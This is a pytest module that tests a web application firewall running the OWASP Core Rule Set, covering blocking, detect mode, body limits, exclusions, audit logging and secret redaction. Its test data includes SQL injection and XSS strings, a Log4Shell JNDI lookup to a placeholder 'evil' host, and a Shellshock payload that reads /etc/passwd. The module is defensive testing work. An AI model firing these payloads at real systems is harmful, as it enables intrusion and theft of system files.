"""The web application firewall: the rules of the system's package on the wire, and the Core Rule Set's own tests."""

import json
import pathlib
import subprocess
import sys
import threading

import pytest

from harness.backends import respond
from harness.headers import assert_secured
from harness.http2 import HTTP2Connection
from harness.process import free_port, until

SHARED = pathlib.Path(__file__).resolve().parents[3] / "shared"
RULES = pathlib.Path("/usr/share/modsecurity-crs")
INJECTION = "/?q=%27%20OR%201%3D1--%20-"
BROWSER = [("User-Agent", "Mozilla/5.0"), ("Accept", "*/*")]
FORM = [*BROWSER, ("Content-Type", "application/x-www-form-urlencoded")]

pytestmark = pytest.mark.skipif(not RULES.is_dir(), reason="needs Debian's modsecurity-crs")


@pytest.fixture(scope="module")
def patterns(tmp_path_factory):
    """Compiled once: the gateways of this module share what they have compiled."""
    return tmp_path_factory.mktemp("patterns")


@pytest.fixture
def firewall(stage, patterns, tmp_path):
    def start(backend=None, **waf):
        backend = backend or stage.backend(respond())
        gateway = stage.gateway(
            backend.url, state_folder=patterns, waf={"rules": "crs"} | waf,
            log={"access": "stdout", "audit": str(tmp_path / "audit.log"), "level": "info"})
        gateway.backend, gateway.audit = backend, tmp_path / "audit.log"
        return gateway

    return start


def audit(gateway, transactions=1, ids=frozenset()):
    """Every line, when there are some of this many transactions and of these rules: they are written a moment after the
    answer."""

    def lines():
        # The last line may be on its way.
        whole = gateway.audit.read_text().rpartition("\n")[0]
        found = [json.loads(line) for line in whole.splitlines()]
        is_enough = len({line["transaction"] for line in found}) >= transactions
        return found if is_enough and ids <= {line["id"] for line in found} else None

    return until(lines, 10, f"lines of {transactions} transactions in the audit log, of {ids or 'any rule'}")


def test_an_injection_is_refused_and_nothing_is_said_of_the_rule(firewall):
    gateway = firewall()
    answer = gateway.ask(path=INJECTION, fields=BROWSER)
    assert answer.status == 403
    assert_secured(answer, secure=False)
    identifier = answer.only("X-Request-ID")
    assert identifier.encode() in answer.body and b"942" not in answer.body and b"SQL" not in answer.body
    assert not gateway.backend.requests
    lines = audit(gateway, ids={942100, 949110})
    assert all(line["transaction"] == identifier and line["client"] == "127.0.0.1" for line in lines)
    assert next(line for line in lines if line["id"] == 942100)["target"] == "ARGS:q"
    assert gateway.access_line(status=403)["decision"] == "waf.blocked"
    assert gateway.metric("rampart_denials_total", code="waf.blocked") == 1


@pytest.mark.parametrize("body", ["q=%3Cscript%3Ealert(1)%3C/script%3E", "a=1&q=1%27%20union%20select%20password%20from%20users--"])
def test_bodies_are_looked_at_before_the_backend_hears_of_them(firewall, body):
    gateway = firewall()
    assert gateway.ask("POST", fields=FORM, body=body.encode()).status == 403
    assert not gateway.backend.requests
    answer = gateway.ask("POST", fields=FORM, body=b"q=an+ordinary+word&page=2")
    assert answer.status == 200
    assert gateway.backend.requests[0].body == b"q=an+ordinary+word&page=2"


def test_json_is_taken_apart(firewall):
    gateway = firewall()
    fields = [*BROWSER, ("Content-Type", "application/json")]
    assert gateway.ask("POST", fields=fields, body=b'{"a":{"b":["<script>alert(1)</script>"]}}').status == 403
    assert gateway.ask("POST", fields=fields, body=b'{"a":').status == 400
    assert gateway.ask("POST", fields=fields, body=b'{"a":{"b":["ordinary"]}}').status == 200


def test_http2_is_looked_at_in_the_same_way(firewall):
    gateway = firewall()
    with HTTP2Connection(gateway.secure, gateway.certificates.client_context()) as connection:
        assert connection.ask("GET", INJECTION, BROWSER).status == 403
        assert connection.ask("POST", "/", FORM, body=b"q=%3Cscript%3Ealert(1)%3C/script%3E").status == 403
        assert connection.ask("GET", "/?q=word", BROWSER).status == 200


def test_detect_refuses_nothing_and_logs_the_same(firewall):
    gateway = firewall(mode="detect")
    assert gateway.ask(path=INJECTION, fields=BROWSER).status == 200
    assert {line["id"] for line in audit(gateway, ids={942100, 949110})} >= {942100, 949110}
    assert gateway.metric("rampart_detections_total", code="waf.blocked") == 1


def test_a_long_body_is_refused_or_seen_in_part(firewall, stage):
    gateway = firewall(requestBody="1KiB")
    long = b"q=" + b"a" * 2000
    assert gateway.ask("POST", fields=FORM, body=long).status == 413
    assert not gateway.backend.requests
    gateway = firewall(requestBody="1KiB", overBodyLimit="partial")
    assert gateway.ask("POST", fields=FORM, body=long).status == 200
    assert gateway.backend.requests[0].body == long
    assert gateway.ask("POST", fields=FORM, body=b"q=%3Cscript%3Ealert(1)%3C/script%3E&r=" + b"a" * 2000).status == 403


MULTIPART = b'--b\r\nContent-Disposition: form-data; name="%s"\r\n\r\n'


@pytest.mark.parametrize("mode", ["block", "detect"])
@pytest.mark.parametrize("kind, start, end", [
    ("application/x-www-form-urlencoded", b"q=%s&r=", b""), ("application/json", b'{"q":"%s","r":"', b'"}'),
    ("application/xml", b"<a><q>%s</q><r>", b"</r></a>"),
    ("multipart/form-data; boundary=b", MULTIPART % b"q" + b"%s\r\n" + MULTIPART % b"r", b"\r\n--b--\r\n"),
])
def test_a_body_that_is_seen_in_part_is_seen_up_to_there(firewall, kind, start, end, mode):
    gateway = firewall(requestBody="1KiB", overBodyLimit="partial", mode=mode)
    fields = [*BROWSER, ("Content-Type", kind)]
    honest, hostile = (start % value + b"a" * 5000 + end for value in (b"word", b"1' OR '1'='1"))
    assert gateway.ask("POST", fields=fields, body=honest).status == 200
    assert gateway.backend.requests[0].body == honest
    assert not gateway.audit.read_text(), "no rule has matched"
    assert gateway.ask("POST", fields=fields, body=hostile).status == (403 if mode == "block" else 200)
    assert 942100 in {line["id"] for line in audit(gateway, ids={942100})}


def test_what_detect_would_refuse_for_its_length_is_counted(firewall):
    gateway = firewall(requestBody="1KiB", mode="detect")
    assert gateway.ask("POST", fields=FORM, body=b"q=" + b"a" * 2000).status == 200
    assert gateway.metric("rampart_detections_total", code="request.bodyTooLarge") == 1


TRAILED = (b"POST / HTTP/1.1\r\nHost: localhost\r\nUser-Agent: Mozilla/5.0\r\nAccept: */*\r\n"
           b"Content-Type: application/x-www-form-urlencoded\r\nTransfer-Encoding: chunked\r\n\r\n"
           b"3\r\na=1\r\n0\r\nX-Api-Version: ${jndi:ldap://evil/a}\r\n\r\n")


@pytest.mark.parametrize("waf, passes", [({}, False), ({"mode": "detect"}, False), ({"mode": "off"}, True)])
def test_trailers_pass_only_where_no_rules_look(firewall, waf, passes):
    gateway = firewall(**waf)
    with gateway.connect() as connection:
        connection.send(TRAILED)
        assert connection.read_answer().status == 200
    [request] = gateway.backend.requests
    assert request.body == b"a=1" and bool(request.trailers) == passes
    with HTTP2Connection(gateway.secure, gateway.certificates.client_context()) as connection:
        stream = connection.open("POST", "/", FORM, end=False)
        connection.send(stream, b"a=1")
        connection.send_trailers(stream, [("x-sum", "() { :;}; /bin/cat /etc/passwd")])
        assert connection.read(stream).status == 200
    assert bool(gateway.backend.requests[1].trailers) == passes


def test_an_exclusion_holds_for_its_rules_its_variable_and_its_route(firewall):
    gateway = firewall(exclusions=[
        {"routes": "/search", "tags": "OWASP_CRS", "targets": "ARGS:q", "reason": "the search takes anything"}])
    attack = INJECTION.removeprefix("/")
    assert gateway.ask(path=f"/search{attack}", fields=BROWSER).status == 200
    assert gateway.ask(path=f"/search{attack.replace('q=', 'other=')}", fields=BROWSER).status == 403
    assert gateway.ask(path=f"/other{attack}", fields=BROWSER).status == 403


def test_an_answer_that_gives_something_away_is_kept_back(firewall, stage):
    leak = b"<b>You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version</b>"
    backend = stage.backend(lambda request, peer: respond(
        fields=[("Content-Type", "text/html")], body=leak if "leak" in request.target else b"<p>hello</p>"))
    gateway = firewall(backend, responseBody="64KiB")
    answer = gateway.ask(path="/leak", fields=BROWSER)
    assert answer.status == 403 and b"MySQL" not in answer.body
    answer = gateway.ask(path="/", fields=BROWSER)
    assert answer.status == 200 and answer.body == b"<p>hello</p>"


def test_a_match_is_logged_when_the_request_goes_on_and_not_at_its_end(firewall, stage):
    release = threading.Event()

    def slow(request, peer):
        release.wait(10)
        return respond()

    gateway = firewall(stage.backend(slow), mode="detect")
    asking = threading.Thread(target=gateway.ask, kwargs={"path": INJECTION, "fields": BROWSER})
    asking.start()
    try:
        assert {line["id"] for line in audit(gateway, ids={942100, 949110})} >= {942100, 949110}
        assert not gateway.access_lines()
    finally:
        release.set()
        asking.join()
    gateway.access_line(status=200)
    ids = [line["id"] for line in audit(gateway)]
    assert len(ids) == len(set(ids)), "each once"


def test_a_rule_can_end_the_connection(firewall, tmp_path):
    (tmp_path / "own" / "rules").mkdir(parents=True)
    (tmp_path / "own" / "crs-setup.conf").write_text("SecRuleEngine On\n")
    (tmp_path / "own" / "rules" / "a.conf").write_text('SecRule ARGS:a "@streq drop" "id:2,phase:1,log,drop"\n')
    gateway = firewall(rules=str(tmp_path / "own"))
    with gateway.connect() as connection:
        connection.send(b"GET /?a=drop HTTP/1.1\r\nHost: localhost\r\n\r\n")
        assert connection.is_closed() and not connection.buffer
    assert gateway.access_line(status=0)["decision"] == "waf.blocked"
    assert audit(gateway)[0]["decision"] == "waf.blocked"


@pytest.mark.parametrize("field", [
    ("Content-Encoding", "none"), ("Content-Encoding", ""), ("Content-Encoding", "identity, identity"),
    ("Content-Type", "application/octet-stream"), ("Content-Type", "application/ecmascript")])
def test_an_answer_that_says_odd_things_of_its_text_is_looked_at_all_the_same(firewall, stage, field):
    leak = b"You have an error in your SQL syntax; check the manual that corresponds to your MySQL server version"
    kind = ("Content-Type", "text/html") if field != ("Content-Type", "application/ecmascript") else ("X-A", "b")
    gateway = firewall(stage.backend(respond(fields=[field, kind], body=leak)), responseBody="64KiB")
    assert gateway.ask(path="/", fields=BROWSER).status == 403


def test_an_exclusion_without_a_rule_is_said_at_the_start(firewall):
    gateway = firewall(exclusions=[{"rules": 1, "tags": "attack-sqly", "reason": "none"}])
    until(lambda: "rule 1," in gateway.stderr and "attack-sqly" in gateway.stderr, 5, "two warnings")


def test_secrets_are_not_in_the_audit_log(firewall):
    gateway = firewall(mode="detect")
    secret = "' OR 1=1--hunter2"
    gateway.ask("POST", fields=FORM, body=b"password=%27%20OR%201%3D1--hunter2&new_pass=%27%20OR%201%3D1--hunter2")
    gateway.ask("POST", fields=[*BROWSER, ("Content-Type", "application/json")], body=json.dumps(
        {"pin": secret, "user": {"authToken": secret}}).encode())
    gateway.ask("POST", fields=[*BROWSER, ("Content-Type", "text/xml")], body=b"<a><pass>' OR 1=1--hunter2</pass></a>")
    gateway.ask("POST", fields=FORM, body=json.dumps({"a": "<script>alert(1)</script>", "pwd": "hunter2"}).encode())
    gateway.ask(path="/", fields=[*BROWSER, ("Cookie", "hunter2<script>alert(1)</script>")])
    with gateway.connect() as connection:
        connection.send(b"GET http://me:hunter2@localhost/<script>#hunter2 HTTP/1.1\r\nHost: localhost\r\n\r\n")
        assert connection.read_answer().status == 400
    assert len({line["transaction"] for line in audit(gateway, 6)}) == 6
    assert "hunter2" not in gateway.audit.read_text() + gateway.stdout


def test_a_malformed_request_is_in_the_audit_log(firewall):
    gateway = firewall()
    with gateway.connect() as connection:
        connection.send(b"GET /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: a\r\nHost: b\r\n\r\n")
        assert connection.read_answer().status == 400
    assert any(line["id"] == 941100 for line in audit(gateway, ids={941100}))


ATTACKED = b"POST /?q=%3Cscript%3Ealert(1)%3C/script%3E HTTP/1.1\r\nHost: localhost\r\nUser-Agent: a\r\nAccept: */*\r\n"


@pytest.mark.parametrize("rest, status", [
    (b"Transfer-Encoding: chunked\r\n\r\nzz\r\n", 400), (b"Content-Length: 3000\r\n\r\n" + b"a" * 3000, 413)])
def test_an_attack_before_a_body_that_is_refused_is_in_the_audit_log(firewall, rest, status):
    gateway = firewall(requestBody="1KiB")
    with gateway.connect() as connection:
        connection.send(ATTACKED + rest)
        assert connection.read_answer().status == status
    assert any(line["id"] == 941100 for line in audit(gateway, ids={941100}))


def test_an_attack_before_a_body_that_never_comes_is_in_the_audit_log(firewall):
    gateway = firewall()
    with gateway.connect() as connection:
        connection.send(ATTACKED + b"Content-Length: 100\r\n\r\na=1")
    assert any(line["id"] == 941100 for line in audit(gateway, ids={941100}))
    assert gateway.access_line(decision="client.closed")


@pytest.mark.parametrize("path, fields", [
    ("/?q=<script> alert(1)</script>", []), ("/?q=<script>alert(1)</script>", [("X-Capital", "a")]),
    ("/?q=<script>alert(1)</script>", [("connection", "close")]), ("/?q=<script>alert(1)</script>#a", [])])
def test_a_malformed_request_of_http2_is_in_both_logs(firewall, path, fields):
    gateway = firewall()
    with HTTP2Connection(gateway.secure, gateway.certificates.client_context(), validate=False) as connection:
        stream = connection.h2.get_next_available_stream_id()
        connection.h2.send_headers(stream, [
            (":method", "GET"), (":scheme", "https"), (":authority", "localhost"), (":path", path), *fields,
            ("user-agent", "a")], end_stream=True)
        connection.flush()
        assert any(line["id"] == 941100 for line in audit(gateway, ids={941100}))
    assert gateway.access_line(decision="request.malformed")["path"] == "/"


@pytest.mark.timeout(400)
@pytest.mark.skipif(not (SHARED / "crs").is_dir(), reason="needs ../shared/crs and ../shared/tools")
def test_the_core_rule_sets_own_tests_pass(stage, patterns, tmp_path):
    release = SHARED / "crs" / "4.28.0"
    setup = tmp_path / "setup.conf"
    setup.write_text(
        f"Include {release / 'crs-setup.conf.example'}\nInclude {SHARED / 'tools' / 'crs-test-setup.conf'}\n")
    port, log = free_port(), tmp_path / "audit.log"
    gateway = stage.gateway(
        f"http://127.0.0.1:{port}", state_folder=patterns, log={"access": "off", "audit": str(log), "level": "info"},
        # Rules look at these fields, which no backend gets unless they are allowed.
        clients={"allowFields": ["X_Filename", "X.Filename"]},
        waf={"rules": str(release), "setup": str(setup), "mode": "detect", "paranoia": 4, "responseBody": "512KiB"})
    run = subprocess.run(
        [sys.executable, str(SHARED / "tools" / "waf-regression"), "--target", f"127.0.0.1:{gateway.plain}",
         "--log", str(log), "--tests", str(release / "tests"), "--backend-port", str(port),
         "--overrides", str(pathlib.Path(__file__).parent / "waf" / "overrides.yaml"),
         "--json", str(tmp_path / "result.json")],
        stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True, timeout=380)
    failed = {test["test"] for test in json.loads((tmp_path / "result.json").read_text()) if not test["passed"]}
    print(run.stdout.splitlines()[-1], sorted(failed))
    # Known: docs/waf.md says why each of them does not pass.
    assert failed <= {"920240-6"}
